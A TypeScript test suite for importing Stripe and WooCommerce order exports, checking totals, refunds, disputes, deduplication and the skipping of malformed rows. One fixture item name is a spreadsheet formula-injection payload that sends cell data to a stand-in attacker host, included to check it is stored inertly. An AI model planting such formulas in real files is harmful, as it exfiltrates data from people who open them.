import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { importOrderRows, type OrderKind } from '@/bin/import-rows';
import { db } from '@/lib/db/client';
import { readJson } from '@/lib/imports/read-json';
import { readRows } from '@/lib/imports/read-rows';
import { type ImportCounts, runImportTogether } from '@/lib/imports/rows';
import {
  stripeExport,
  type Tally,
  tallyOfStripe,
  tallyOfWoocommerce,
  woocommerceExport,
  woocommerceOrder,
} from '@/tests/support/order-exports';
import { kind } from '../../support/database';

let folder = '';
let said: string[] = [];

beforeAll(async () => {
  folder = await mkdtemp(path.join(os.tmpdir(), 'porchlight-orders-'));
});
afterAll(() => rm(folder, { recursive: true }));
afterEach(async () => {
  await expectSoundBooks();
  said = [];
});

async function imported(kind: OrderKind, name: string, text: string): Promise<ImportCounts> {
  const file = path.join(folder, name);
  await writeFile(file, text);
  const rows = kind === 'woocommerce' ? readJson(file) : readRows(file);
  return runImportTogether(rows, importOrderRows(kind), (line) => void said.push(line));
}

/** What our rows say of the orders whose id begins like this, per currency. */
async function tallyOfRows(prefix: string): Promise<Record<string, Tally>> {
  const orders = await db.order.findMany({
    where: { externalId: { startsWith: prefix } },
    include: { refunds: true, disputes: true },
  });
  const tallies: Record<string, Tally> = {};
  for (const order of orders) {
    tallies[order.currency] ??= {
      orders: 0,
      total: 0,
      captured: 0,
      refunds: 0,
      refunded: 0,
      disputes: 0,
      disputed: 0,
    };
    const tally = tallies[order.currency] as Tally;
    tally.orders += 1;
    tally.total += order.totalMinor;
    tally.captured += order.capturedMinor;
    tally.refunds += order.refunds.length;
    tally.refunded += order.refunds.reduce((sum, refund) => sum + refund.amountMinor, 0);
    tally.disputes += order.disputes.length;
    tally.disputed += order.disputes.reduce((sum, dispute) => sum + dispute.amountMinor, 0);
  }
  return tallies;
}

/** Nothing may be held beyond what was paid, and every refund has exactly the one step of its making. */
async function expectSoundBooks(): Promise<void> {
  const beyond = await db.$queryRaw<{ n: bigint }[]>`
    SELECT COUNT(*) AS n FROM "Order" o WHERE o."capturedMinor" <
      (SELECT COALESCE(SUM(r."amountMinor"), 0) FROM "Refund" r
        WHERE r."orderId" = o."id" AND r."state" NOT IN ('failed', 'canceled'))`;
  expect(Number(beyond[0]?.n)).toBe(0);
  const [refunds, events] = await Promise.all([db.refund.count(), db.refundEvent.count()]);
  expect(events).toBe(refunds);
  expect(await db.refund.count({ where: { requestedVia: { not: 'provider' } } })).toBe(0);
}

/** The rows are read and told by the same code for both databases; one of them sees a whole file. */
const COUNT = kind === 'sqlite' ? 10_000 : 1000;

test(`${COUNT} payments of Stripe come in with sums that match the file exactly, and again changes nothing`, async () => {
  const csv = stripeExport({ count: COUNT, delimiter: ';', bom: true, lineEnd: '\r\n' });
  const expected = tallyOfStripe(csv, ';');
  const orders = Object.values(expected).reduce((sum, tally) => sum + tally.orders, 0);
  const began = performance.now();
  const first = await imported('stripe', 'payments.csv', csv);
  const took = performance.now() - began;
  expect(first).toEqual({ created: orders, updated: 0, unchanged: 0, skipped: COUNT - orders });
  const second = await imported('stripe', 'payments.csv', csv);
  expect(second).toEqual({ created: 0, updated: 0, unchanged: orders, skipped: COUNT - orders });
  expect(await tallyOfRows('stripe:')).toEqual(expected);
  expect(Object.keys(expected).sort()).toEqual(['EUR', 'JPY', 'KWD', 'USD']);
  process.stdout.write(`${COUNT} payments of Stripe in ${(took / 1000).toFixed(1)} s\n`);
  expect(said.join('\n')).toMatch(/no money came of this payment \(Failed\)/);
  const disputed = await db.order.count({ where: { disputedAt: { not: null } } });
  const standing = await db.dispute.count({
    where: { state: { in: ['open', 'lost'] }, reason: { not: { startsWith: 'inquiry: ' } } },
  });
  expect(await db.dispute.count({ where: { state: 'open' } })).toBeGreaterThan(standing / 2);
  expect(disputed).toBe(standing);
  expect(await db.mail.count()).toBe(0);
  expect(await db.job.count()).toBe(0);
}, 240_000);

test(`${COUNT} orders of WooCommerce come in with sums that match the file exactly, and again changes nothing`, async () => {
  const json = woocommerceExport(COUNT);
  const expected = tallyOfWoocommerce(json);
  const began = performance.now();
  expect(await imported('woocommerce', 'orders.json', json)).toMatchObject({ created: COUNT, skipped: 0 });
  process.stdout.write(
    `${COUNT} orders of WooCommerce in ${((performance.now() - began) / 1000).toFixed(1)} s\n`,
  );
  expect(await imported('woocommerce', 'orders.json', json)).toMatchObject({ created: 0, unchanged: COUNT });
  expect(await tallyOfRows('woocommerce:')).toEqual(expected);
}, 240_000);

test('what a cell may hold stands in our rows as plain text, in one line', async () => {
  const order = await db.order.findUniqueOrThrow({
    where: { externalId: 'stripe:pi_000000000000000b' },
    include: { items: true, refunds: { include: { events: true } } },
  });
  expect(order).toMatchObject({
    number: 'TP-10011',
    email: 'buyer11@example.com',
    provider: 'stripe',
    paymentRef: 'pi_000000000000000b',
    items: [{ name: '=HYPERLINK("http://evil.example/?"&A1,"click")', quantity: 1 }],
    refunds: [
      {
        state: 'succeeded',
        requestedVia: 'provider',
        providerRefundId: null,
        events: [{ position: 0, fromState: null, toState: 'succeeded', cause: 'import' }],
      },
    ],
  });
  const names = await db.orderItem.findMany({ select: { name: true }, distinct: ['name'] });
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the purpose
  expect(names.filter(({ name }) => /[\u0000-\u001F\u202E]/.test(name))).toEqual([]);
});

test('a later export adds what was refunded and disputed since, and nothing twice', async () => {
  const head = 'id,Created (UTC),Amount,Amount Refunded,Currency,Status,Customer Email,PaymentIntent ID';
  const more = `${head},Dispute Status,Disputed Amount`;
  const row = (refunded: string) => `ch_l1,2026-06-05 20:38,100.00,${refunded},eur,Paid,l@example.com,pi_l1`;
  const refunds = () =>
    db.refund.findMany({
      where: { paymentRef: 'pi_l1' },
      orderBy: { seq: 'asc' },
      select: { amountMinor: true },
    });
  expect(await imported('stripe', 'a.csv', `${head}\n${row('40.00')}\n`)).toMatchObject({ created: 1 });
  expect(await imported('stripe', 'b.csv', `${head}\n${row('65.50')}\n`)).toMatchObject({ updated: 1 });
  expect(await refunds()).toEqual([{ amountMinor: 4000 }, { amountMinor: 2550 }]);
  // An older file again is late news.
  expect(await imported('stripe', 'a.csv', `${head}\n${row('40.00')}\n`)).toMatchObject({ unchanged: 1 });
  const disputed = (status: string) => `${more}\n${row('65.50')},${status},34.50\n`;
  const order = () =>
    db.order.findFirstOrThrow({ where: { paymentRef: 'pi_l1' }, include: { disputes: true } });
  expect(await imported('stripe', 'c.csv', disputed('warning_needs_response'))).toMatchObject({ updated: 1 });
  expect(await order()).toMatchObject({ disputedAt: null, disputes: [{ state: 'open' }] });
  expect(await imported('stripe', 'c.csv', disputed('needs_response'))).toMatchObject({ updated: 1 });
  expect(await imported('stripe', 'c.csv', disputed('warning_needs_response'))).toMatchObject({
    unchanged: 1,
  });
  expect((await order()).disputedAt).not.toBeNull();
  expect(await imported('stripe', 'd.csv', disputed('won'))).toMatchObject({ updated: 1 });
  expect(await imported('stripe', 'c.csv', disputed('needs_response'))).toMatchObject({ unchanged: 1 });
  expect(await order()).toMatchObject({ disputedAt: null, disputes: [{ state: 'won', amountMinor: 3450 }] });
});

test('one payment is one order, whether the shop or its payment provider tells of it first', async () => {
  const head = 'id,Created (UTC),Amount,Amount Refunded,Currency,Status,Customer Email,PaymentIntent ID\n';
  const payment = (n: number) =>
    `${head}ch_one${n},2026-06-05 20:38,100.00,25.00,eur,Paid,one@example.com,pi_one${n}\n`;
  const shop = (n: number) =>
    JSON.stringify([
      {
        ...woocommerceOrder(1),
        id: 900_000 + n,
        currency: 'EUR',
        total: '100.00',
        total_tax: '0.00',
        shipping_total: '0.00',
        payment_method: 'stripe',
        transaction_id: `ch_one${n}`,
        meta_data: [{ key: '_stripe_intent_id', value: `pi_one${n}` }],
        refunds: [{ id: 1000 + n, reason: '', total: '-25.00' }],
      },
    ]);
  await imported('stripe', 'p.csv', payment(1));
  expect(await imported('woocommerce', 's.json', shop(1))).toMatchObject({ updated: 1 });
  await imported('woocommerce', 's.json', shop(2));
  expect(await imported('stripe', 'p.csv', payment(2))).toMatchObject({ unchanged: 1, created: 0 });
  for (const n of [1, 2]) {
    const orders = await db.order.findMany({
      where: { paymentRef: `pi_one${n}` },
      include: { refunds: true },
    });
    expect(orders).toMatchObject([
      { externalId: `woocommerce:${900_000 + n}`, refunds: [{ amountMinor: 2500 }] },
    ]);
    // And again, from both sides.
    expect(await imported('stripe', 'p.csv', payment(n))).toMatchObject({ unchanged: 1 });
    expect(await imported('woocommerce', 's.json', shop(n))).toMatchObject({ unchanged: 1 });
  }
});

test('rows that tell of no order say why, with their line, and stop nothing', async () => {
  const head = 'id,Created date (UTC),Amount,Amount Refunded,Currency,Status,Customer Email\n';
  const rows = [
    'who,2026-06-05 20:38,1.00,0,eur,Paid,r@example.com',
    'ch_r2,05/06/2026 20:38,1.00,0,eur,Paid,r@example.com',
    'ch_r3,2026-06-05 20:38,1.000,0,eur,Paid,r@example.com',
    'ch_r4,2026-06-05 20:38,1.00,2.00,eur,Paid,r@example.com',
    'ch_r5,2026-06-05 20:38,1.00,0,xxx,Paid,r@example.com',
    'ch_r6,2026-06-05 20:38,1.00,0,eur,Paid,',
    'ch_r7,2026-06-05 20:38,-1.00,0,eur,Paid,r@example.com',
    'ch_r8,2026-06-05 20:38,1.00,0,eur,Uncaptured,r@example.com',
    'ch_r9,2026-06-05 20:38,1.00,0,eur,Paid,r@example.com',
  ];
  expect(await imported('stripe', 'r.csv', head + rows.join('\n'))).toMatchObject({ created: 1, skipped: 8 });
  expect(said.filter((line) => line.includes('skipped line'))).toHaveLength(8);
  const broken = JSON.stringify([null, 7, {}, { ...woocommerceOrder(1), id: 1e9, total: 'NaN' }]);
  expect(await imported('woocommerce', 'r.json', broken)).toMatchObject({ created: 0, skipped: 4 });
  expect(await imported('woocommerce', 'x.json', '{"a":')).toMatchObject({ skipped: 1 });
});
